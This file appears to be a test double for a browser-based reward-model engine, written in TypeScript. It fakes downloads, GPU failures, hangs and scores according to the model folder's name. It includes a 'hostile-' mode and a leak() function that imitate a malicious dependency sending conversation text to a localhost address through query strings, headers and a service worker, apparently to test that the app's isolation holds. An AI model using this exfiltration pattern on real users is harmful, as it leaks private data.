/**
 * An engine that computes nothing. It brings the page into states that the real engine reaches only
 * by accident or after a long wait: a slow download, a GPU that fails, an adapter that is hardware.
 * The name of the model's folder decides its behaviour.
 */
import { GpuError, InputError, WeightsError } from "../../src/errors.ts";
import { tryChannels } from "../../src/sealed/channels.ts";
import type { ModelFolder } from "../../src/files/resolve-source.ts";
import type { LoadOptions } from "../../src/load/options.ts";
import type { Conversation, Kernels, Score, ScoreOptions } from "../../src/types.ts";

/** Taken before the worker gets another. */
const BROWSER_FETCH: typeof fetch = fetch.bind(globalThis);

const TOTAL_BYTES = 16_600_000_000;

/** A response that is refused in every mode. */
export const REFUSED = "Refuse this.";

/** A response that has the engine say what conversation it was given. */
export const ECHO = "Say what you see.";

const WARNING = "Kernels of f16 are off: their self-test failed.";
const ANOTHER_WARNING = "The device was lost, and the model was loaded again.";

export class RewardModel {
  readonly adapter = { name: "apple metal-3: Apple M5 Max", software: false };
  readonly kernels: Kernels = {
    profile: "apple",
    matmul: "shared",
    matmulQuantised: "shared-low",
    attention: "workgroup-tall",
    chosen: "remembered",
  };
  readonly name: string;
  readonly headName = "value head";
  /** As the real one says it: an own head by its file. */
  readonly head: { readonly name: string } | undefined;
  /** True in the mode `steps`. */
  readonly readsSteps: boolean;
  readonly ranksImages = false;
  readonly inputQuota = 4096;
  /** In the mode `big` it takes more than the page allows for two. */
  readonly memory: { readonly totalBytes: number };
  readonly config: {
    readonly architecture: string;
    readonly vision: object | undefined;
  };
  readonly #mode: string;
  readonly #warn: (message: string) => void;

  private constructor(name: string, mode: string, { head, onWarning }: LoadOptions) {
    this.#warn = onWarning ?? (() => {});
    this.head = head instanceof File ? { name: head.name } : undefined;
    this.name = name;
    this.#mode = mode;
    this.readsSteps = mode === "steps";
    this.memory = { totalBytes: mode === "big" ? 6.5 * 2 ** 30 : 1e6 };
    const isTextOnly = mode === "text-only" || mode === "steps";
    this.config = {
      architecture: isTextOnly
        ? "Qwen3ForSequenceClassification"
        : "Qwen2_5_VLForConditionalGeneration",
      vision: isTextOnly ? undefined : {},
    };
  }

  static async fromPretrained(from: ModelFolder, options: LoadOptions): Promise<RewardModel> {
    const mode = typeof from === "string" ? (from.split("/").at(-2) ?? "") : "files";
    if (mode === "damaged") {
      throw new WeightsError({ where: "model.safetensors", what: "the header is not JSON" });
    }
    options.onProgress?.({
      stage: "download",
      loadedBytes: mode === "slow" ? 6_200_000_000 : TOTAL_BYTES,
      totalBytes: TOTAL_BYTES,
      bytesPerSecond: 48_000_000,
      secondsLeft: 217,
      file: "model-00002-of-00004.safetensors",
      overall: mode === "slow" ? 0.3 : 0.8,
    });
    if (mode === "slow") {
      await stopped(options.signal);
    }
    if (mode === "hung") {
      // As a checkpoint could that computes without end.
      for (;;);
    }
    // While it loads, a model may be fetched from anywhere.
    if (mode.startsWith("hostile-")) {
      await fetch(`http://127.0.0.1:${mode.slice(8)}/model/config.json`);
    }
    if (mode === "warns") {
      // As after a recovery: the same a second time.
      for (const _ of [1, 2]) options.onWarning?.(WARNING);
    }
    return new RewardModel(typeof from === "string" ? from : "the chosen files", mode, options);
  }

  async score(
    all: readonly (Conversation | SolutionCase)[],
    {
      signal,
      onProgress,
      features: hasFeatures,
    }: Pick<ScoreOptions, "signal" | "onProgress" | "features">,
  ): Promise<Score[]> {
    const half = Math.ceil(all.length / 2);
    onProgress?.(half, all.length);
    if (this.#mode === "warns") {
      for (const message of [WARNING, ANOTHER_WARNING]) this.#warn(message);
    }
    if (this.#mode === "gpu-fails") {
      throw new GpuError({
        where: "GPU apple metal-3",
        what: "the device was lost (unknown: the GPU process crashed)",
        todo: "Load the model again",
      });
    }
    if (this.#mode.startsWith("hostile-")) {
      const [first = []] = all;
      const text = "inputs" in first ? "" : textOf(first);
      await leak(`http://127.0.0.1:${this.#mode.slice(8)}/`, text);
    }
    if (this.#mode === "refuses") {
      throw new InputError({ where: "conversations[0]", what: "6,660 tokens are too many" });
    }
    if (all.some((one) => !("inputs" in one) && textOf(one) === REFUSED)) {
      throw new InputError({ where: "conversations[0]", what: "6,660 tokens are too many" });
    }
    for (const one of all) {
      if ("inputs" in one || textOf(one) !== ECHO) continue;
      throw new InputError({ where: "conversations[0]", what: JSON.stringify(one.map(seenTurn)) });
    }
    if (this.#mode === "unhurried") {
      await new Promise((resolve) => setTimeout(resolve, 40));
    }
    if (this.#mode === "hung-score") {
      // As a text or a picture could that is computed without end.
      for (;;);
    }
    if (this.#mode === "endless") {
      await stopped(signal);
    }
    return all.map((one) => {
      if ("inputs" in one) return fakeSolution(one);
      const text = textOf(one);
      const score = fakeScore(text);
      return hasFeatures === true ? { ...score, features: fakeFeatures(text) } : score;
    });
  }

  /** A token a character. */
  async measureInputUsage(all: readonly Conversation[]): Promise<number[]> {
    const counts = all.map((conversation) => JSON.stringify(conversation).length);
    return await Promise.resolve(counts);
  }

  pieces(ids: Uint32Array): string[] {
    return Array.from(ids, (id) =>
      id === 0 ? "<|im_end|>" : id === 1 ? "\n" : String.fromCodePoint(id),
    );
  }

  async dispose(): Promise<void> {}
}

/** What a malicious dependency or checkpoint in the engine would do with a text. */
async function leak(sink: string, text: string): Promise<void> {
  const address = `${sink}?${encodeURIComponent(text)}`;
  // By the worker's own `fetch`, which asks the library: new addresses and known ones, with data.
  const asks = [address, `${sink}model/config.json`].flatMap((url) => [
    fetch(url),
    fetch(url, { headers: { "x-text": text, range: `bytes=${text.length}-` } }),
    fetch(url, { headers: { range: `bytes=${encodeURIComponent(text)}` } }),
  ]);
  await Promise.allSettled(asks);
  await tryChannels(address, BROWSER_FETCH);
  navigator.serviceWorker?.controller?.postMessage(text);
}

/** What a process reward model takes. */
interface SolutionCase {
  readonly inputs: { readonly question: string; readonly steps: readonly string[] };
}

/** Steps that are less and less likely to be right. */
function fakeSolution({ inputs: { question, steps } }: SolutionCase): Score {
  const stepValues = steps.map((_, i) => 0.9 - 0.2 * i);
  const last = stepValues.at(-1) ?? 0;
  const product = stepValues.reduce((all, value) => all * value, 1);
  const aggregates = { min: last, product, last, mean: last };
  return { ...fakeScore(question + steps.join("")), value: last, stepValues, aggregates };
}

/** One token a character; the value is its place in a wave. */
function fakeScore(text: string): Score {
  const ids = [1, ...Array.from(text, (each) => each.codePointAt(0) ?? 0), 0, 1];
  const tokenValues = Float32Array.from(ids, (_, at) => Math.sin(at) * 2 + text.length / 20);
  const value = tokenValues.at(-1) ?? 0;
  const timesMs = { images: 3.2, text: 0.8, gpu: 41, total: 45 };
  const response = { begin: 1, end: ids.length - 2 };
  return { value, tokenIds: Uint32Array.from(ids), tokenValues, response, images: [], timesMs };
}

/** As many as the embedded model's head reads: its file is fitted to them. */
const HIDDEN = 128;

/** What a head would read: the length, and how often some letters come. */
function fakeFeatures(text: string): Float32Array {
  const counts = Array.from("aeinorst", (letter) => text.split(letter).length - 1);
  const features = new Float32Array(HIDDEN);
  features.set([text.length / 20, ...counts]);
  return features;
}

/** Returns a turn with the bytes of each picture in the picture's place. */
function seenTurn({ role, content }: Conversation[number]): unknown {
  if (typeof content === "string") return [role, content];
  const parts = content.map((part) => {
    if (part.type === "text") return part.text;
    const { image } = part;
    return image instanceof Blob ? image.size : image instanceof ArrayBuffer ? image.byteLength : 0;
  });
  return [role, ...parts];
}

function textOf(conversation: Conversation): string {
  const content = conversation.at(-1)?.content;
  return typeof content === "string" ? content : "";
}

function stopped(signal: AbortSignal | undefined): Promise<never> {
  return new Promise((_, reject) => {
    signal?.addEventListener("abort", () => reject(signal.reason as Error));
  });
}
